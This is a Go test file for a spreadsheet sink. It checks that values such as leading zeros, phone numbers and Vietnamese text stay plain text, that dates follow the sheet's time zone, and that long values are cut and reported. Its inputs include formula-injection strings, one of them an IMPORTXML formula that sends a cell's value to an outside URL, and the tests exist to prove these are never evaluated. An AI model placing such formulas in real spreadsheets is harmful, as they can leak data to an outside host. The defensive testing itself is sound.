package appsscript_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"mekong/pipeline"
	"mekong/sinks/appsscript/scriptsim"
)

// TestValues: what people type that a sheet likes to change stays what it was.
func TestValues(t *testing.T) {
	t.Parallel()
	nfd := "Nguye\u0302\u0303n Thi\u0323 A\u0301nh"
	for _, quirks := range []map[string]bool{nil, {"quote": true}, {"quote": true, "formula": true}} {
		o := defaults()
		o.Quirks = quirks
		t.Run(fmt.Sprint(quirks), func(t *testing.T) {
			onBoth(t, o, func(t *testing.T, b backend) {
				s := newWorld(t, b).sink(t, nil)
				texts := map[string]string{
					"zeros": "00123", "phone": "0900000000", "ad": "120212345678901234", "formula": `=IMPORTXML("https://example.com/"&A2,"//a")`,
					"plus": "+84900000000", "minus": "-5", "at": "@import", "nfd": nfd, "quote": "'0123", "date": "2026-09-05", "bool": "TRUE",
					"money": "$100.15", "percent": "50%", "exp": "1e5", "lines": "một\r\nhai", "=header": "=1+1",
				}
				fields := map[string]any{"count": 12.5, "yes": true, "tags": []string{"đỏ", "xanh"}}
				for k, v := range texts {
					fields[k] = v
				}
				r := record("r1", "=key()", 0, fields)
				store(t, s, r)
				store(t, s, record("r2", "00042", 1, fields), r) // beside it, and again
				d := b.dump(t)
				if len(d.Cells) != 3 {
					t.Fatalf("%d rows, want a header and two", len(d.Cells))
				}
				for header, want := range texts {
					for row := 2; row <= 3; row++ {
						at := d.column(header)
						if at == 0 {
							t.Fatalf("no column %q", header)
						}
						if got := d.value(row, at); got != want || d.format(row, at) != "@" {
							t.Errorf("%s: reads %#v with format %q, want the text %q", header, got, d.format(row, at), want)
						}
						if f := d.Cells[row-1][at-1][2]; f != "" {
							t.Errorf("%s: became the formula %q", header, f)
						}
					}
				}
				for header, want := range map[string]any{"count": 12.5, "yes": true, "tags": "đỏ, xanh"} {
					if got := d.value(2, d.column(header)); got != want {
						t.Errorf("%s: reads %#v, want %#v", header, got, want)
					}
				}
				if a, b := d.value(2, d.column("Mekong ID")), d.value(3, d.column("Mekong ID")); a != "=key()" || b != "00042" {
					t.Errorf("keys read %#v and %#v", a, b)
				}
			})
		})
	}
}

// TestAFormulaIsTakenOut: should a sheet ever calculate what is plain text, the cell is
// emptied again, and Check tells.
func TestAFormulaIsTakenOut(t *testing.T) {
	t.Parallel()
	o := defaults()
	o.Quirks = map[string]bool{"stubborn": true}
	b := newNode(t, o)
	if b == nil {
		return
	}
	s := newWorld(t, b).sink(t, nil)
	store(t, s, record("r", "k", 0, map[string]any{"name": "An", "note": "=IMPORTXML(1)"}))
	d := b.dump(t)
	if got := d.Cells[1][d.column("note")-1]; got[0] != "" || got[2] != "" || d.value(2, d.column("name")) != "An" {
		t.Errorf("the row reads %v", d.Cells[1])
	}
	said(t, s.Check(t.Context()), pipeline.Warn, "1 values had no column to go to, or became a formula")
}

// TestNothingIsEvaluated: not for a moment.
func TestNothingIsEvaluated(t *testing.T) {
	t.Parallel()
	b := newNode(t, defaults())
	if b == nil {
		return
	}
	s := newWorld(t, b).sink(t, nil)
	store(t, s, record("r", "=1+1", 0, map[string]any{"=a": "=B1", "x": "+A1", "y": "@SUM(A1)", "z": "-A1"}))
	store(t, s, record("q", "=1+1", 1, map[string]any{"=a": "=C1", "x": "=D1"}))
	if n := b.whole(t).Evaluated; n != 0 {
		t.Errorf("%d formulas were calculated", n)
	}
}

// TestDates: an instant is shown on the spreadsheet's clock, across midnight too.
func TestDates(t *testing.T) {
	t.Parallel()
	for zone, want := range map[string]string{
		"Asia/Ho_Chi_Minh": "2026-03-04 00:15:00", "UTC": "2026-03-03 17:15:00", "America/New_York": "2026-03-03 12:15:00",
	} {
		o := defaults()
		o.Zone = zone
		t.Run(zone, func(t *testing.T) {
			onBoth(t, o, func(t *testing.T, b backend) {
				s := newWorld(t, b).sink(t, nil)
				r := record("r", "k", 0, map[string]any{"call_at": "2026-03-03T17:15:00.123Z", "day": "2026-03-04", "text": "2026-03-03T17:15 hẹn"})
				r.Received = time.Date(2026, 3, 3, 17, 15, 0, 5, time.UTC)
				store(t, s, r)
				d := b.dump(t)
				for _, header := range []string{"call_at", "received"} {
					at := d.column(header)
					n, ok := d.value(2, at).(float64)
					if !ok || d.format(2, at) != "yyyy-mm-dd hh:mm:ss" {
						t.Fatalf("%s is %#v with format %q, and no date", header, d.value(2, at), d.format(2, at))
					}
					if got := scriptsim.Instant(n, time.UTC).Format("2006-01-02 15:04:05"); got != want {
						t.Errorf("%s shows %s, want %s", header, got, want)
					}
				}
				if got := d.value(2, d.column("day")); got != "2026-03-04" {
					t.Errorf("a day without a zone reads %#v", got)
				}
				if got := d.value(2, d.column("text")); got != "2026-03-03T17:15 hẹn" {
					t.Errorf("a text reads %#v", got)
				}
			})
		})
	}
}

// TestLongTexts: what is longer than a cell is cut between characters, and told.
func TestLongTexts(t *testing.T) {
	t.Parallel()
	onBoth(t, defaults(), func(t *testing.T, b backend) {
		s := newWorld(t, b).sink(t, nil)
		store(t, s, record("r", "k", 0, map[string]any{
			"a": strings.Repeat("ữ", 50_000), "b": strings.Repeat("ữ", 50_001), "c": "x" + strings.Repeat("🌾", 25_000),
		}))
		d := b.dump(t)
		for header, want := range map[string]string{
			"a": strings.Repeat("ữ", 50_000), "b": strings.Repeat("ữ", 50_000), "c": "x" + strings.Repeat("🌾", 24_999),
		} {
			if got := d.value(2, d.column(header)).(string); got != want {
				t.Errorf("%s: %d bytes are there, want %d", header, len(got), len(want))
			}
		}
		warned := 0
		for _, f := range s.Check(t.Context()) {
			if f.Level == pipeline.Warn && strings.Contains(f.What, "were cut") {
				warned++
			}
		}
		if warned != 2 {
			t.Errorf("Check tells of %d columns with cut values, want 2", warned)
		}
	})
}
